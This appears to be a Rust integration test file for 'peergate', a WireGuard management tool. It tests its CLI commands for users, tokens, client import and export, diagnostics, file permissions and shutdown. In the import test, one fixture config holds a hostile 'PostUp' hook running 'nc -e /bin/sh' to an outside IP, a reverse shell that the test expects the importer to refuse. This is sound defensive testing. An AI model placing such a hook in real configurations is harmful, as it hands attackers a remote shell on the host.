//! The `peergate` executable: accounts and tokens from the command line, start-up errors, serving
//! and graceful shutdown.

use std::io::{BufRead, BufReader, Write};
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::{TestApp, fresh_database_url};

fn peergate(database_url: &str, data_dir: &std::path::Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_peergate"));
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("PEERGATE_DATABASE_URL", database_url)
        .env("PEERGATE_DATA_DIR", data_dir)
        .env("PEERGATE_LOG", "warn");
    cmd
}

fn run_with_stdin(mut cmd: Command, stdin: &str) -> std::process::Output {
    let mut child = cmd.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    child.wait_with_output().unwrap()
}

#[tokio::test]
async fn user_add_token_create_and_bearer_login() {
    let app = TestApp::spawn_with(|c| c.token_cache_secs = 0).await;
    let data = app.data_dir();
    let mut add = peergate(&app.database_url, &data);
    add.args(["user", "add", "--username", "noc", "--role", "admin"]);
    let out = run_with_stdin(add, "a long enough password\n");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // The same name again: refused with the conflict exit status, nothing changed.
    let mut again = peergate(&app.database_url, &data);
    again.args(["user", "add", "--username", "noc", "--role", "operator"]);
    let out = run_with_stdin(again, "another long password\n");
    assert_eq!(out.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&out.stderr).contains("already exists"));

    // A short password is refused before anything is written.
    let mut weak = peergate(&app.database_url, &data);
    weak.args(["user", "add", "--username", "weak", "--role", "admin"]);
    let out = run_with_stdin(weak, "short\n");
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("at least 12 characters"));

    let out = peergate(&app.database_url, &data).args(["token", "create", "--username", "noc", "--name", "ci"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let stdout = String::from_utf8(out.stdout).unwrap();
    let token = stdout.lines().last().unwrap().trim().to_string();
    let noc = app.caller(&token);
    let me: Value = noc.json("/api/auth/me").await;
    assert_eq!(me["user"]["username"], "noc");

    let list = peergate(&app.database_url, &data).args(["token", "list"]).output().unwrap();
    let listing = String::from_utf8(list.stdout).unwrap();
    assert!(listing.starts_with("ID  USER  NAME  CREATED"), "a header row: {listing}");
    let row: Vec<&str> = listing.lines().nth(1).unwrap().split_whitespace().collect();
    assert_eq!(row[..3], ["1", "noc", "ci"], "{listing}");
    assert!(row[3].starts_with("20") && row[5] == "UTC", "times read as dates: {listing}");
    assert!(!listing.contains(&token), "{listing}");

    let out = peergate(&app.database_url, &data).args(["token", "revoke", "--id", "1"]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(noc.get("/api/auth/me").await.status(), 401);
    let out = peergate(&app.database_url, &data).args(["token", "revoke", "--id", "1"]).output().unwrap();
    assert!(!out.status.success(), "revoking twice reports it");

    let actions = app.db_audit_actions().await;
    assert_eq!(actions, ["user.create", "token.create", "token.revoke"]);
}

#[tokio::test]
async fn generated_password_is_shown_once_and_works() {
    let app = TestApp::spawn().await;
    let out = peergate(&app.database_url, &app.data_dir())
        .args(["user", "add", "--username", "admin", "--role", "admin", "--generate-password"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let password = stdout.lines().find_map(|l| l.strip_prefix("password (shown once): ")).unwrap();
    let res = app.post_json("/api/auth/login", &serde_json::json!({"username": "admin", "password": password})).await;
    assert_eq!(res.status(), 200);
}

#[test]
fn unreachable_database_and_bad_settings_stop_start_up_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let out = peergate("postgres://peergate:secret@127.0.0.1:1/peergate", dir.path()).arg("migrate").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("cannot connect to the database at postgres://peergate:***@127.0.0.1:1/peergate"), "{stderr}");
    assert!(!stderr.contains("secret"), "the password must not leak: {stderr}");

    let out = peergate("sqlite://x.db", dir.path()).env("PEERGATE_LISTEN", "localhost").arg("serve").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("PEERGATE_LISTEN"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[tokio::test]
async fn serve_explains_first_time_setup_and_stops_gracefully_on_sigterm() {
    let dir = tempfile::tempdir().unwrap();
    let url = fresh_database_url(dir.path()).await;
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut child = peergate(&url, dir.path())
        .env("PEERGATE_LISTEN", format!("127.0.0.1:{port}"))
        .env("PEERGATE_LOG", "info")
        .arg("serve")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    let mut line = String::new();
    while !seen.contains("peergate is serving") {
        line.clear();
        assert!(stderr.read_line(&mut line).unwrap() > 0, "serve exited early: {seen}");
        seen.push_str(&line);
    }
    assert!(seen.contains("peergate user add --username admin --role admin"), "{seen}");
    let res = reqwest::get(format!("http://127.0.0.1:{port}/healthz")).await.unwrap();
    assert_eq!(res.status(), 200);
    assert!(!res.headers()["x-request-id"].is_empty());

    Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap();
    let started = std::time::Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            assert!(status.success(), "{status}");
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(10), "no graceful exit");
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
    assert!(rest.contains("peergate stopped"), "{rest}");
}

#[tokio::test]
async fn client_import_reports_each_file_of_a_mixed_directory() {
    use crate::support::fixtures::{conf, conf_with};
    let app = TestApp::spawn().await;
    let source = app.dir.path().join("old-wireguard");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::write(source.join("site-a.conf"), conf("10.77.0.0/24")).unwrap();
    std::fs::write(source.join("home.conf"), conf("0.0.0.0/0")).unwrap();
    std::fs::write(source.join("evil.conf"), conf_with("10.78.0.0/24", "PostUp = nc -e /bin/sh 203.0.113.9 4444")).unwrap();
    std::fs::write(source.join("junk.conf"), [0u8, 1, 2, 255]).unwrap();
    std::fs::write(source.join("README"), "not a config").unwrap();

    let out = peergate(&app.database_url, &app.data_dir())
        .env("PEERGATE_WG_DIR", app.wg_dir())
        .env("PEERGATE_LAN_ADDRESS", "10.201.0.1/24")
        .args(["client", "import"])
        .arg(&source)
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert_eq!(out.status.code(), Some(1), "not everything was imported: {stdout}{stderr}");
    assert!(stderr.contains("3 of 4 files were not imported"), "{stderr}");
    let line = |file: &str| stdout.lines().find(|l| l.contains(file)).unwrap_or_default().to_string();
    assert!(line("site-a.conf").starts_with("imported"), "{stdout}");
    assert!(line("home.conf").starts_with("needs_subnet"), "{stdout}");
    assert!(line("evil.conf").starts_with("refused") && line("evil.conf").contains("PostUp"), "{stdout}");
    assert!(line("junk.conf").starts_with("refused"), "{stdout}");
    assert!(!stdout.contains("README"));
    assert_eq!(app.wg_files(), ["site-a.conf"]);
    assert!(!std::fs::read_to_string(app.wg_dir().join("site-a.conf")).unwrap().contains("# site A"));

    // With the subnet, the full-tunnel file imports too; an already imported one is skipped.
    let out = peergate(&app.database_url, &app.data_dir())
        .env("PEERGATE_WG_DIR", app.wg_dir())
        .env("PEERGATE_LAN_ADDRESS", "10.201.0.1/24")
        .args(["client", "import", "--subnet", "10.88.0.0/24"])
        .arg(source.join("home.conf"))
        .arg(source.join("site-a.conf"))
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(out.status.success(), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout.lines().any(|l| l.starts_with("imported") && l.contains("10.88.0.0/24")), "{stdout}");
    assert!(stdout.lines().any(|l| l.starts_with("skipped") && l.contains("site-a.conf")), "{stdout}");
    assert_eq!(app.client_count().await, 2);
}

#[test]
fn doctor_reports_what_is_wrong_and_fails_on_an_open_wireguard_directory() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let wg_dir = dir.path().join("wireguard");
    std::fs::create_dir_all(&wg_dir).unwrap();
    std::fs::set_permissions(&wg_dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let url = format!("sqlite://{}?mode=rwc", dir.path().join("p.db").display());
    let run = |lan: &str| {
        peergate(&url, dir.path())
            .env_remove("PEERGATE_LOG") // the default level, as an operator runs it
            .env("PEERGATE_WG_DIR", &wg_dir)
            .env("PEERGATE_LAN_INTERFACE", "lo")
            .env("PEERGATE_LAN_ADDRESS", lan)
            .arg("doctor")
            .output()
            .unwrap()
    };
    // No database yet: reported, not created.
    let out = run("127.0.0.1/8");
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(stdout.contains("does not exist yet"), "{stdout}");
    assert!(!dir.path().join("p.db").exists(), "doctor created the database");
    assert!(stdout.contains("firewall nftables:") || stdout.contains("firewall iptables:"), "plain names: {stdout}");
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(stderr.lines().all(|l| l.ends_with("problem(s) found")), "only the verdict, no log lines: {stderr}");

    // An unmigrated database (an empty file is an empty SQLite database): reported, not migrated.
    std::fs::write(dir.path().join("p.db"), b"").unwrap();
    let stdout = String::from_utf8(run("127.0.0.1/8").stdout).unwrap();
    assert!(stdout.contains("migration(s) not applied yet"), "{stdout}");
    let migrate = peergate(&url, dir.path()).arg("migrate").output().unwrap();
    assert!(migrate.status.success());

    let out = run("127.0.0.1/8");
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("FAIL  ") && stdout.contains("readable by others"), "{stdout}");
    assert!(stdout.contains("ok    database reachable"), "{stdout}");
    assert!(stdout.contains("ok    LAN: 127.0.0.1 on lo"), "{stdout}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("problem(s) found"));

    std::fs::set_permissions(&wg_dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let stdout = String::from_utf8(run("127.0.0.1/8").stdout).unwrap();
    assert!(stdout.contains("exists and is private"), "{stdout}");
}

#[tokio::test]
async fn user_unlock_lets_a_throttled_owner_in_again_and_is_audited() {
    let app = TestApp::spawn().await;
    app.create_user("admin", peergate_core::account::Role::Admin).await;
    let body = |password: &str| serde_json::json!({"username": "admin", "password": password});
    for _ in 0..5 {
        assert_eq!(app.post_json("/api/auth/login", &body("guess")).await.status(), 401);
    }
    let res = app.post_json("/api/auth/login", &body(crate::support::PASSWORD)).await;
    assert_eq!(res.status(), 429, "throttled before the unlock");

    let mut unknown = peergate(&app.database_url, &app.data_dir());
    unknown.args(["user", "unlock", "--username", "nobody"]);
    let out = unknown.output().unwrap();
    assert!(!out.status.success(), "unlocking a user that does not exist fails");
    assert!(String::from_utf8_lossy(&out.stderr).contains("does not exist"), "{}", String::from_utf8_lossy(&out.stderr));

    let mut unlock = peergate(&app.database_url, &app.data_dir());
    unlock.args(["user", "unlock", "--username", "admin"]);
    let out = unlock.output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let res = app.post_json("/api/auth/login", &body(crate::support::PASSWORD)).await;
    assert_eq!(res.status(), 200, "the server honours the unlock");
    assert!(app.db_audit_actions().await.iter().any(|a| a == "user.unlock"));
}

#[test]
fn the_data_dir_is_0700_and_the_database_files_0600_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("new/data");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let migrate = |data: &std::path::Path| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_peergate"));
        cmd.env_clear().env("PATH", std::env::var("PATH").unwrap_or_default()).env("PEERGATE_DATA_DIR", data);
        cmd.env("PEERGATE_LOG", "warn").arg("migrate");
        // A permissive umask from the caller must not matter.
        // SAFETY: umask only sets this test process's file-creation mask (inherited by the child).
        let old = unsafe { libc::umask(0o022) };
        let out = cmd.output().unwrap();
        unsafe { libc::umask(old) };
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    };
    migrate(&data);
    assert_eq!(mode(&data), 0o700, "data dir");
    let db = data.join("peergate.db");
    assert_eq!(mode(&db), 0o600, "database file");
    for extra in ["peergate.db-wal", "peergate.db-shm"] {
        if data.join(extra).exists() {
            assert_eq!(mode(&data.join(extra)), 0o600, "{extra}");
        }
    }
    // A database left world-readable by an older version is tightened at the next start.
    std::fs::set_permissions(&db, std::fs::Permissions::from_mode(0o644)).unwrap();
    migrate(&data);
    assert_eq!(mode(&db), 0o600, "database file after a restart");
}

fn stdout_of(out: &std::process::Output) -> String {
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout.clone()).unwrap()
}

#[tokio::test]
async fn user_passwd_disable_enable_and_remove_keep_an_admin() {
    let app = TestApp::spawn_with(|c| c.token_cache_secs = 0).await;
    let data = app.data_dir();
    let cli = |args: &[&str]| peergate(&app.database_url, &data).args(args).output().unwrap();
    app.create_user("root", peergate_core::account::Role::Admin).await;
    app.create_user("noc", peergate_core::account::Role::Admin).await;
    let csrf = app.login("noc").await;
    assert!(!csrf.is_empty());
    let noc = app.caller(&app.token("noc", None).await);

    // A new password signs the browser session out; the old password stops working.
    let out = run_with_stdin(
        {
            let mut c = peergate(&app.database_url, &data);
            c.args(["user", "passwd", "noc"]);
            c
        },
        "a new long password\n",
    );
    assert!(stdout_of(&out).contains("1 browser session(s) signed out"));
    assert_eq!(app.client.get(app.url("/api/auth/me")).send().await.unwrap().status(), 401);
    let login = |password: &'static str| {
        app.client.post(app.url("/api/auth/login")).json(&serde_json::json!({ "username": "noc", "password": password })).send()
    };
    assert_eq!(login("a new long password").await.unwrap().status(), 200);
    let out = run_with_stdin(
        {
            let mut c = peergate(&app.database_url, &data);
            c.args(["user", "passwd", "nobody"]);
            c
        },
        "a new long password\n",
    );
    assert!(!out.status.success());

    // Disabled: signed out, tokens stop; listed as disabled; enabled again.
    stdout_of(&cli(&["user", "disable", "noc"]));
    assert_eq!(noc.get("/api/auth/me").await.status(), 401);
    assert_eq!(app.client.get(app.url("/api/auth/me")).send().await.unwrap().status(), 401);
    let listing = stdout_of(&cli(&["user", "list"]));
    assert!(listing.lines().any(|l| l.split_whitespace().take(4).eq(["2", "noc", "admin", "disabled"])), "{listing}");
    stdout_of(&cli(&["user", "enable", "noc"]));
    assert_eq!(noc.json::<Value>("/api/auth/me").await["user"]["username"], "noc");

    // The last enabled admin can be neither disabled nor removed.
    stdout_of(&cli(&["user", "remove", "noc"]));
    for args in [["user", "disable", "root"], ["user", "remove", "root"]] {
        let out = cli(&args);
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains("last enabled admin"), "{args:?}");
    }
    assert_eq!(noc.get("/api/auth/me").await.status(), 401, "a removed user's tokens go with them");
    let actions = app.db_audit_actions().await;
    for action in ["user.password", "user.disable", "user.enable", "user.delete"] {
        assert!(actions.contains(&action.to_string()), "{action}: {actions:?}");
    }
}

#[tokio::test]
async fn client_list_show_export_and_remove() {
    let (app, admin) = crate::support::admin_app().await;
    let data = app.data_dir();
    let wg = app.wg_dir();
    let cli = |args: &[&str]| peergate(&app.database_url, &data).env("PEERGATE_WG_DIR", &wg).args(args).output().unwrap();
    let res = admin.upload("Zürich office.conf", crate::support::fixtures::conf("10.77.0.0/24"), &[]).await;
    assert_eq!(res.status(), 201);

    let listing = stdout_of(&cli(&["client", "list"]));
    let lines: Vec<&str> = listing.lines().collect();
    assert!(lines[0].starts_with("ID  NAME           INTERFACE      STATE"), "{listing}");
    assert!(lines[1].starts_with("1   Zürich office  zurich-office  inactive  10.77.0.0/24"), "{listing}");

    for wanted in ["1", "zurich-office", "Zürich office"] {
        let shown = stdout_of(&cli(&["client", "show", wanted]));
        assert!(shown.contains("public key        pOCSkrZRwni5dyxWn1+puxPZBrRqtoyd+dwrRAn4ogk="), "{shown}");
        assert!(!shown.contains(crate::support::fixtures::PRIVATE_KEY), "{shown}");
    }
    let out = cli(&["client", "show", "nope"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("no client `nope`"));

    let redacted = stdout_of(&cli(&["client", "export", "1"]));
    assert!(redacted.contains("PrivateKey = (redacted)") && !redacted.contains(crate::support::fixtures::PRIVATE_KEY));
    let out = cli(&["client", "export", "1", "--include-keys"]);
    assert!(!out.status.success(), "keys only into a file");
    let file = app.dir.path().join("export.conf");
    stdout_of(&cli(&["client", "export", "1", "--include-keys", "--output", file.to_str().unwrap()]));
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(std::fs::read_to_string(&file).unwrap().contains(crate::support::fixtures::PRIVATE_KEY));
    let out = cli(&["client", "export", "1", "--include-keys", "--output", file.to_str().unwrap()]);
    assert!(!out.status.success(), "an existing file is never overwritten");

    sqlx::query("UPDATE clients SET state = 'active'").execute(&app.db.pool).await.unwrap();
    let out = cli(&["client", "remove", "zurich-office"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("is active; deactivate it first"));
    sqlx::query("UPDATE clients SET state = 'inactive'").execute(&app.db.pool).await.unwrap();
    stdout_of(&cli(&["client", "remove", "zurich-office"]));
    assert_eq!(app.client_count().await, 0);
    assert_eq!(app.wg_files(), Vec::<String>::new());
    let actions = app.db_audit_actions().await;
    assert_eq!(actions.iter().filter(|a| *a == "client.export").count(), 2, "{actions:?}");
    assert!(actions.contains(&"client.delete".to_string()));
}

#[tokio::test]
async fn client_activate_and_deactivate_go_through_the_running_server() {
    let (app, admin) = crate::support::admin_app().await;
    let data = app.data_dir();
    let id = admin.create_client("site-a", "10.77.0.0/24").await;
    let socket = data.join("control.sock");
    use std::os::unix::fs::{FileTypeExt, PermissionsExt};
    let meta = std::fs::metadata(&socket).unwrap();
    assert!(meta.file_type().is_socket());
    assert_eq!(meta.permissions().mode() & 0o777, 0o600, "only the server's user and root may connect");

    // The command blocks; the server answers on this test's runtime meanwhile.
    let cli = |args: Vec<String>| {
        let mut cmd = peergate(&app.database_url, &data);
        cmd.env("SUDO_USER", "alice").args(args);
        tokio::task::spawn_blocking(move || cmd.output().unwrap())
    };
    let args = |verb: &str, client: &str| vec!["client".to_string(), verb.to_string(), client.to_string()];
    let out = cli(args("activate", "site-a")).await.unwrap();
    let stdout = stdout_of(&out);
    assert!(stdout.starts_with(&format!("client {id} `site-a` (site-a) is active")), "{stdout}");
    assert!(app.fakes.world().up.contains("site-a"), "the server's data plane brought it up");
    let events: Vec<serde_json::Value> = admin.json("/api/audit?action=client.activate").await;
    assert_eq!(events[0]["actor"], "cli:alice", "audited as the CLI user, like the other CLI commands");

    let out = cli(args("deactivate", &id.to_string())).await.unwrap();
    assert!(stdout_of(&out).contains("is inactive"));
    assert!(app.fakes.world().up.is_empty());

    let out = cli(args("activate", "nope")).await.unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("no client `nope`"));

    // Imports and removals write the database from this process; the server's list (held in
    // memory) shows them at once, because the CLI tells it.
    let file = app.dir.path().join("site-b.conf");
    std::fs::write(&file, crate::support::fixtures::conf("10.78.0.0/24")).unwrap();
    let out = cli(vec!["client".into(), "import".into(), file.display().to_string()]).await.unwrap();
    assert!(out.status.success(), "{out:?}");
    let names =
        |list: Vec<serde_json::Value>| list.iter().map(|c| c["interface"].as_str().unwrap().to_string()).collect::<Vec<_>>();
    assert_eq!(names(admin.json("/api/clients").await), ["site-a", "site-b"]);
    let out = cli(args("remove", "site-b")).await.unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(names(admin.json("/api/clients").await), ["site-a"]);

    // A second server on the same data directory is refused before it touches anything.
    let mut second = peergate(&app.database_url, &data);
    second.args(["serve"]).env("PEERGATE_LISTEN", "127.0.0.1:0");
    let out = tokio::task::spawn_blocking(move || second.output().unwrap()).await.unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("another `peergate serve` answers"), "{out:?}");

    // The socket speaks only for the CLI: an actor that is not `cli:<login>` is refused.
    let raw = reqwest::Client::builder().unix_socket(socket.as_path()).build().unwrap();
    for actor in ["admin", "cli:a\tb", &format!("cli:{}", "x".repeat(80))] {
        let res =
            raw.post(format!("http://peergate/clients/{id}/activate")).header("x-peergate-actor", actor).send().await.unwrap();
        crate::support::assert_problem(res, 400, "bad_actor").await;
    }
    assert!(app.fakes.world().up.is_empty());

    // Without a server answering, the CLI says what to do instead of driving wg-quick itself.
    std::fs::remove_file(&socket).unwrap();
    let out = cli(args("activate", "site-a")).await.unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("the peergate server is not running"), "{out:?}");
    assert!(app.fakes.world().up.is_empty());
}
